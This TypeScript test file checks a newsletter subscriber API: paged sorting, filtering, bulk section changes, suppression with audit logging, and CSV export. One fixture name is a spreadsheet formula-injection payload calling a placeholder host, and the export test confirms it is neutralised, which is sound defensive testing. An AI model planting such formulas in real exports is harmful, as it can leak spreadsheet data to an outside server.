import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db, SubscriberStatus } from '../../src/db/schema.js';
import { MODEL_SECTIONS } from '../../src/publication/model-sections.js';
import { upsertSection } from '../../src/publication/sections.js';
import {
  addSubscriber,
  applyBulkAction,
  BulkActionError,
  countSubscribers,
  exportSubscribersCsv,
  getSubscriber,
  isSuppressed,
  listBulkActions,
  listSubscribers,
  recordBulkExport,
  SUBSCRIBER_SORTS,
  type SubscriberRecord,
  type SubscriberSort,
  subscriberCursor,
  suppress,
  UnknownSectionError,
  updateSubscriber,
} from '../../subscribers/api.js';
import { createTestDatabase, type TestDatabase } from '../support/test-db.js';

let tdb: TestDatabase;
let db: Db;
const ids: Record<string, number> = {};

// Names and join times repeat on purpose: page boundaries must fall inside runs of equal values.
const PEOPLE: {
  email: string;
  name: string | null;
  day: number;
  status: SubscriberStatus;
  sections?: string[];
}[] = [
  { email: 'zhao@example.com', name: '赵律师', day: 3, status: 'active' },
  { email: 'qian@example.com', name: '钱律师', day: 1, status: 'active', sections: ['case-studies'] },
  { email: 'sun@example.com', name: null, day: 1, status: 'pending' },
  { email: 'li@example.com', name: 'Li', day: 2, status: 'unsubscribed', sections: ['industry-news'] },
  {
    email: 'zhou@example.com',
    name: 'Li',
    day: 2,
    status: 'active',
    sections: ['case-studies', 'industry-news'],
  },
  { email: 'wu@example.com', name: null, day: 5, status: 'bounced' },
  { email: 'zheng@example.com', name: 'Anna', day: 4, status: 'active' },
  {
    email: 'wang@example.com',
    name: '=HYPERLINK("http://x.example/?"&A2)',
    day: 4,
    status: 'active',
    sections: ['foreign-regulation'],
  },
  { email: 'feng@example.com', name: 'Bob', day: 6, status: 'complained' },
  { email: 'chen@example.com', name: 'Anna', day: 1, status: 'active', sections: ['domestic-regulation'] },
  { email: 'chu@example.org', name: 'Chu', day: 2, status: 'active' },
];

beforeAll(async () => {
  tdb = await createTestDatabase();
  db = tdb.db;
  for (const s of MODEL_SECTIONS) await upsertSection(db, s);
  for (const p of PEOPLE) {
    const sub = await addSubscriber(
      db,
      {
        email: p.email,
        name: p.name,
        consentSource: 'import',
        status: p.status === 'pending' ? 'pending' : 'active',
        ...(p.sections ? { sectionKeys: p.sections } : {}),
      },
      { now: new Date(Date.UTC(2025, 6, p.day, 8)) },
    );
    if (p.status !== 'active' && p.status !== 'pending')
      await updateSubscriber(db, sub.id, { status: p.status });
    ids[p.email] = sub.id;
  }
  await suppress(db, { kind: 'domain', value: 'example.org', reason: 'manual' });
});
afterAll(async () => {
  await tdb?.drop();
});

const emails = (rows: SubscriberRecord[]) => rows.map((r) => r.email);

/** Walks the list page by page through the cursor, the way the page's "next" link does. */
async function walk(sort: SubscriberSort, direction: 'asc' | 'desc', limit: number, filter = {}) {
  const out: SubscriberRecord[] = [];
  let cursor: string | undefined;
  for (let pages = 0; pages < 50; pages++) {
    const rows = await listSubscribers(db, {
      ...filter,
      sort,
      direction,
      limit,
      ...(cursor ? { cursor } : {}),
    });
    out.push(...rows);
    if (rows.length < limit) return out;
    cursor = subscriberCursor(rows.at(-1) as SubscriberRecord, sort);
  }
  throw new Error('the walk did not end');
}

describe('sorting the subscriber list', () => {
  const compare: Record<SubscriberSort, (a: (typeof PEOPLE)[number], b: (typeof PEOPLE)[number]) => number> =
    {
      email: (a, b) => (a.email < b.email ? -1 : a.email > b.email ? 1 : 0),
      created: (a, b) => a.day - b.day,
      name: (a, b) => ((a.name ?? '') < (b.name ?? '') ? -1 : (a.name ?? '') > (b.name ?? '') ? 1 : 0),
      status: (a, b) =>
        ['pending', 'active', 'unsubscribed', 'bounced', 'complained'].indexOf(a.status) -
        ['pending', 'active', 'unsubscribed', 'bounced', 'complained'].indexOf(b.status),
    };

  for (const sort of SUBSCRIBER_SORTS) {
    for (const direction of ['asc', 'desc'] as const) {
      it(`by ${sort} ${direction}: pages of 2 walk every subscriber once, in order, ties by id`, async () => {
        const expected = [...PEOPLE]
          .sort((a, b) => {
            const c = compare[sort](a, b) || (ids[a.email] as number) - (ids[b.email] as number);
            return direction === 'asc' ? c : -c;
          })
          .map((p) => p.email);
        const whole = await listSubscribers(db, { sort, direction, limit: 100 });
        // The database's collation decides the order of names and addresses; the walk must match it.
        if (sort === 'created' || sort === 'status') expect(emails(whole)).toEqual(expected);
        else expect(new Set(emails(whole))).toEqual(new Set(expected));
        expect(emails(await walk(sort, direction, 2))).toEqual(emails(whole));
      });
    }
  }

  it('puts pending before active before those who left when sorted by state', async () => {
    const rows = await listSubscribers(db, { sort: 'status', limit: 100 });
    expect([...new Set(rows.map((r) => r.status))]).toEqual([
      'pending',
      'active',
      'unsubscribed',
      'bounced',
      'complained',
    ]);
  });

  it('refuses a cursor it did not give out, naming it', async () => {
    await expect(listSubscribers(db, { sort: 'created', cursor: 'not-a-cursor' })).rejects.toThrow(
      'The page position (cursor) is not one this list gave out',
    );
    const nameCursor = subscriberCursor(
      (await listSubscribers(db, { sort: 'name', limit: 1 }))[0] as SubscriberRecord,
      'name',
    );
    await expect(listSubscribers(db, { sort: 'created', cursor: nameCursor })).rejects.toThrow('cursor');
  });
});

describe('filtering by section, state and suppression', () => {
  it('by section: chosen, or every section', async () => {
    const rows = await listSubscribers(db, { section: 'case-studies', sort: 'email', limit: 100 });
    const everySection = PEOPLE.filter((p) => !p.sections).map((p) => p.email);
    expect(new Set(emails(rows))).toEqual(new Set([...everySection, 'qian@example.com', 'zhou@example.com']));
    expect(await countSubscribers(db, { section: 'case-studies' })).toBe(rows.length);
  });

  it('by state and section together, sorted and paged', async () => {
    const filter = { status: 'active' as const, section: 'industry-news' };
    const rows = await walk('name', 'asc', 1, filter);
    expect(rows.every((r) => r.status === 'active' && r.sectionKeys.includes('industry-news'))).toBe(true);
    expect(rows).toHaveLength(await countSubscribers(db, filter));
    expect(emails(rows)).not.toContain('li@example.com');
  });

  it('by suppression: the domain entry counts as well as an address one', async () => {
    expect(emails(await listSubscribers(db, { suppressed: true }))).toEqual(['chu@example.org']);
    expect(await countSubscribers(db, { suppressed: false })).toBe(PEOPLE.length - 1);
  });
});

describe('bulk actions', () => {
  it('adds a section to ticked subscribers; "every section" stays every section', async () => {
    const ticked = [ids['qian@example.com'], ids['zhao@example.com']] as number[];
    const result = await applyBulkAction(
      db,
      { ids: ticked },
      { action: 'sections-add', sectionKeys: ['industry-news'] },
      { actor: 'user:ed@example.org' },
    );
    expect(result.affected).toBe(2);
    expect((await getSubscriber(db, ticked[0] as number))?.sectionKeys).toEqual([
      'case-studies',
      'industry-news',
    ]);
    const zhao = await getSubscriber(db, ticked[1] as number);
    expect(zhao?.all_sections).toBe(true);
  });

  it('removes a section: someone on every section keeps the others, chosen lists lose it', async () => {
    const ticked = [ids['zhao@example.com'], ids['zhou@example.com']] as number[];
    await applyBulkAction(
      db,
      { ids: ticked },
      { action: 'sections-remove', sectionKeys: ['industry-news'] },
      { actor: 't' },
    );
    const zhao = await getSubscriber(db, ticked[0] as number);
    expect(zhao?.all_sections).toBe(false);
    expect(zhao?.sectionKeys).toEqual(MODEL_SECTIONS.map((s) => s.key).filter((k) => k !== 'industry-news'));
    expect((await getSubscriber(db, ticked[1] as number))?.sectionKeys).toEqual(['case-studies']);
  });

  it('sets the sections of every subscriber a filter matches, and records the selection and ids', async () => {
    const filter = { section: 'foreign-regulation', status: 'active' as const };
    const expected = await countSubscribers(db, filter);
    const result = await applyBulkAction(
      db,
      { filter, expected },
      { action: 'sections-set', sectionKeys: ['domestic-regulation', 'case-studies'] },
      { actor: 'user:ed@example.org', now: new Date('2025-08-01T00:00:00Z') },
    );
    expect(result.affected).toBe(expected);
    expect(await countSubscribers(db, filter)).toBe(0);
    const audit = await db
      .selectFrom('subscriber_bulk_actions')
      .selectAll()
      .where('id', '=', result.auditId)
      .executeTakeFirstOrThrow();
    expect(audit).toMatchObject({
      actor: 'user:ed@example.org',
      action: 'sections-set',
      affected: expected,
      params: { sections: ['domestic-regulation', 'case-studies'] },
      selection: { kind: 'filter', filter },
    });
    expect(audit.subscriber_ids.map(Number)).toHaveLength(expected);
    expect(JSON.stringify(audit)).not.toContain('@example.com');
  });

  it('refuses, changing nothing, when the filter matches a different number than the editor saw', async () => {
    const before = await listBulkActions(db, { limit: 200 });
    const err = await applyBulkAction(
      db,
      { filter: { status: 'active' }, expected: 1 },
      { action: 'sections-set', sectionKeys: 'all' },
      { actor: 't' },
    ).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(BulkActionError);
    expect((err as BulkActionError).problem).toMatchObject({ code: 'bulk-changed', params: { expected: 1 } });
    expect((await getSubscriber(db, ids['qian@example.com'] as number))?.all_sections).toBe(false);
    expect(await listBulkActions(db, { limit: 200 })).toHaveLength(before.length);
  });

  it('refuses an unknown section, an empty choice and an empty selection', async () => {
    const one = { ids: [ids['qian@example.com'] as number] };
    await expect(
      applyBulkAction(db, one, { action: 'sections-add', sectionKeys: ['nope'] }, { actor: 't' }),
    ).rejects.toBeInstanceOf(UnknownSectionError);
    await expect(
      applyBulkAction(db, one, { action: 'sections-set', sectionKeys: [] }, { actor: 't' }),
    ).rejects.toMatchObject({
      code: 'no-sections',
    });
    await expect(
      applyBulkAction(db, { ids: [] }, { action: 'suppress' }, { actor: 't' }),
    ).rejects.toMatchObject({ code: 'empty' });
    await expect(
      applyBulkAction(db, { filter: { search: 'nobody-at-all' } }, { action: 'suppress' }, { actor: 't' }),
    ).rejects.toMatchObject({ code: 'empty' });
  });

  it('suppresses a selection in one go, keeping existing entries and their reasons', async () => {
    await suppress(db, { kind: 'address', value: 'feng@example.com', reason: 'complaint' });
    const result = await applyBulkAction(
      db,
      { filter: { status: 'complained' } },
      { action: 'suppress', note: 'committee request' },
      { actor: 't' },
    );
    expect(result).toMatchObject({ affected: 1, added: 0 });
    const ticked = [ids['zheng@example.com'], ids['chen@example.com']] as number[];
    const two = await applyBulkAction(
      db,
      { ids: ticked },
      { action: 'suppress', note: 'asked by phone' },
      { actor: 't' },
    );
    expect(two).toMatchObject({ affected: 2, added: 2 });
    expect(await isSuppressed(db, 'zheng@example.com')).toBe(true);
    const entry = await db
      .selectFrom('suppressions')
      .selectAll()
      .where('value', '=', 'chen@example.com')
      .executeTakeFirstOrThrow();
    expect(entry).toMatchObject({ reason: 'manual', note: 'asked by phone' });
    const complaint = await db
      .selectFrom('suppressions')
      .selectAll()
      .where('value', '=', 'feng@example.com')
      .executeTakeFirstOrThrow();
    expect(complaint.reason).toBe('complaint');
  });
});

describe('exporting a selection', () => {
  const csvOf = async (opts: Parameters<typeof exportSubscribersCsv>[2]) => {
    const sink = new PassThrough();
    const chunks: Buffer[] = [];
    sink.on('data', (c: Buffer) => chunks.push(c));
    const count = await exportSubscribersCsv(db, sink, opts);
    return {
      count,
      rows: parse(Buffer.concat(chunks).toString('utf8'), { columns: true }) as Record<string, string>[],
    };
  };

  it('writes only the ticked rows, records who took them, and neutralises formulas', async () => {
    const ticked = [ids['wang@example.com'], ids['zhao@example.com']] as number[];
    const { ids: exported, auditId } = await recordBulkExport(
      db,
      { ids: ticked },
      { actor: 'user:ed@example.org' },
    );
    expect(exported).toEqual([...ticked].sort((a, b) => a - b));
    const { count, rows } = await csvOf({ ids: exported });
    expect(count).toBe(2);
    expect(rows.map((r) => r.email).sort()).toEqual(['wang@example.com', 'zhao@example.com']);
    expect(rows.find((r) => r.email === 'wang@example.com')?.name).toBe(
      '\'=HYPERLINK("http://x.example/?"&A2)',
    );
    const audit = (await listBulkActions(db)).find((a) => a.id === auditId);
    expect(audit).toMatchObject({ action: 'export', affected: 2, selection: { kind: 'ticked', count: 2 } });
  });

  it('writes every subscriber the filter matches, across export pages', async () => {
    const filter = { status: 'active' as const, suppressed: false };
    const { count, rows } = await csvOf({ filter, pageSize: 2 });
    expect(count).toBe(await countSubscribers(db, filter));
    expect(rows.every((r) => r.status === 'active')).toBe(true);
    expect(rows.map((r) => r.email)).not.toContain('chu@example.org');
  });
});
